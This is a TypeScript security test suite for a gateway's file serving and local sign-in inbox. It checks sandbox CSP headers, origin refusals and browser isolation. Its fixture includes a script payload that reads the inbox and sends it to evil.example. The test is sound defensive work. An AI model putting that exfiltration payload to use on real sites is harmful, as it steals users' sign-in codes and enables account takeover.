import { randomUUID } from "node:crypto";
import { createClient, type SupabaseClient } from "@supabase/supabase-js";
import type pg from "pg";
import { type Browser, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureCommand } from "../../../scripts/system-deps.ts";
import { storeMail } from "../../gateway/inbox/index.ts";
import { database, stack, uniqueEmail } from "../auth/support.ts";

/**
 * The gateway's origin serves stored files and the local inbox (every account's sign-in codes). A file
 * opened as a document must get an opaque origin (`Content-Security-Policy: sandbox`), and the inbox
 * must refuse any request such a document, or another site, makes.
 */
const suffix = randomUUID().slice(0, 8);
const publicBucket = `served-public-${suffix}`;
const privateBucket = `served-private-${suffix}`;
/** What an attacker's upload would run: read the inbox and send it elsewhere. */
const stealer =
  "<script>fetch('/inbox/api/messages').then((r) => r.text()).then((t) => fetch('//evil.example/?' + t))</script>";
const files = [
  // name, stored type, expected Content-Security-Policy
  ["page.html", "text/html", "sandbox"],
  ["drawing.svg", "image/svg+xml", "sandbox"],
  ["feed.xml", "application/xml", "sandbox"],
  ["notes.txt", "text/plain", "sandbox"],
  ["photo.png", "image/png", "sandbox"],
  ["clip.mp4", "video/mp4", "sandbox"],
  ["paper.pdf", "application/pdf", null],
] as const;
let db: pg.Client;
let service: SupabaseClient;

beforeAll(async () => {
  db = await database();
  await db.query(`insert into storage.buckets (id, name, public) values ($1, $1, true), ($2, $2, false)`, [
    publicBucket,
    privateBucket,
  ]);
  service = createClient(stack().supabaseUrl, stack().serviceRoleKey, { auth: { persistSession: false } });
  for (const bucket of [publicBucket, privateBucket]) {
    for (const [name, type] of files) {
      const body = new Blob([`<html>${stealer}</html>`], { type });
      const { error } = await service.storage.from(bucket).upload(name, body, { upsert: true });
      if (error) throw error;
    }
  }
});

afterAll(async () => {
  await db.query("delete from storage.objects where bucket_id = any($1)", [[publicBucket, privateBucket]]);
  await db.query("delete from storage.buckets where id = any($1)", [[publicBucket, privateBucket]]);
  await db.end();
});

function publicUrl(name: string): string {
  return service.storage.from(publicBucket).getPublicUrl(name).data.publicUrl;
}

async function signedUrl(name: string): Promise<string> {
  const { data, error } = await service.storage.from(privateBucket).createSignedUrl(name, 60);
  if (error) throw error;
  return data.signedUrl;
}

describe("stored files served by the gateway", () => {
  it.each(files)(
    "%s (%s) is served with nosniff and CSP %s, public or signed",
    async (name, _type, policy) => {
      for (const url of [publicUrl(name), await signedUrl(name)]) {
        const answer = await fetch(url);
        await answer.body?.cancel();
        expect(answer.status).toBe(200);
        expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
        expect(answer.headers.get("content-security-policy")).toBe(policy);
      }
    },
  );
});

describe("the local inbox answers this machine and the web client only", () => {
  const gatewayOrigin = () => new URL(stack().supabaseUrl).origin;
  const siteOrigin = () => new URL(stack().siteUrl).origin;
  const cases: Array<[string, number, () => Record<string, string>]> = [
    ["a tool (no Origin, no fetch metadata)", 200, () => ({})],
    ["an address typed in the browser", 200, () => ({ "sec-fetch-site": "none" })],
    ["the inbox page itself", 200, () => ({ "sec-fetch-site": "same-origin" })],
    ["the gateway's own origin", 200, () => ({ origin: gatewayOrigin(), "sec-fetch-site": "same-origin" })],
    ["the web client", 200, () => ({ origin: siteOrigin(), "sec-fetch-site": "same-site" })],
    [
      "a sandboxed stored document (Origin: null)",
      403,
      () => ({ origin: "null", "sec-fetch-site": "cross-site" }),
    ],
    ["an opaque origin without fetch metadata", 403, () => ({ origin: "null" })],
    ["another site", 403, () => ({ origin: "https://evil.example", "sec-fetch-site": "cross-site" })],
    ["a cross-site navigation", 403, () => ({ "sec-fetch-site": "cross-site" })],
    ["another port on this machine", 403, () => ({ "sec-fetch-site": "same-site" })],
    [
      "another port naming its origin",
      403,
      () => ({ origin: "http://127.0.0.1:1", "sec-fetch-site": "same-site" }),
    ],
  ];

  it.each(cases)("a request from %s is answered %s", async (_who, status, headers) => {
    for (const path of ["/inbox", "/inbox/api/messages"]) {
      const answer = await fetch(`${stack().supabaseUrl}${path}`, { headers: headers() });
      const text = await answer.text();
      expect(answer.status, path).toBe(status);
      if (status === 403) expect(text).not.toMatch(/sign-in code|<article/i);
      // Framing and no-cors reads are refused on every answer, given or refused.
      expect(answer.headers.get("x-frame-options")).toBe("DENY");
      expect(answer.headers.get("content-security-policy")).toBe("frame-ancestors 'none'");
      expect(answer.headers.get("cross-origin-resource-policy")).toBe("same-origin");
      expect(answer.headers.get("cache-control")).toBe("no-store");
    }
  });
});

describe("in a browser", () => {
  let browser: Browser;
  const recipient = uniqueEmail("served-documents");

  beforeAll(async () => {
    ensureCommand("chromium", "chromium");
    browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--headless", "--no-sandbox"],
    });
    await storeMail(db, {
      to: recipient,
      subject: "Your code",
      text: "code 424242",
      html: "<p>code 424242</p>",
    });
  });

  afterAll(async () => {
    await browser?.close();
  });

  /**
   * Scripts in a sandboxed document do not run at all; Playwright's evaluate runs one anyway, standing
   * in for script a browser might run by mistake. Its origin is opaque, so the inbox stays out of reach.
   */
  it.each(["notes.txt", "photo.png"])(
    "a document opened from the stored %s cannot read the inbox",
    async (name) => {
      const page = await browser.newPage();
      try {
        for (const url of [publicUrl(name), await signedUrl(name)]) {
          await page.goto(url);
          const outcome = await page.evaluate(async () => {
            const read = await fetch("/inbox/api/messages").then(
              (response) => response.text(),
              (error: Error) => `refused: ${error.message}`,
            );
            return { origin: self.origin, read };
          });
          expect(outcome.origin).toBe("null");
          expect(outcome.read).toMatch(/^refused/);
          expect(outcome.read).not.toContain("424242");
        }
      } finally {
        await page.close();
      }
    },
  );

  it("the inbox page opened directly still shows the mail in its frame", async () => {
    const page = await browser.newPage();
    try {
      await page.goto(`${stack().inboxUrl}?email=${encodeURIComponent(recipient)}`);
      await expect.poll(() => page.frameLocator("iframe").locator("p").textContent()).toBe("code 424242");
    } finally {
      await page.close();
    }
  });
});
